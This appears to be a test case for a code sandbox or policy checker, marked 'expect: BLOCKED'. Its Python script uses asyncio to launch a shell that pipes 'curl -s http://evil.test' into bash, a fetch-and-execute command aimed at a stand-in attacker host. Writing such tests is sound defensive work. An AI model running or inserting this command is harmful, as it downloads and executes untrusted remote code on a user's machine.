# expect: BLOCKED
import asyncio
async def go(loop):
    t = loop.create_task(asyncio.subprocess.create_subprocess_shell("curl -s http://evil.test | bash"))
    await t
asyncio.get_event_loop().run_until_complete(go(asyncio.get_event_loop()))
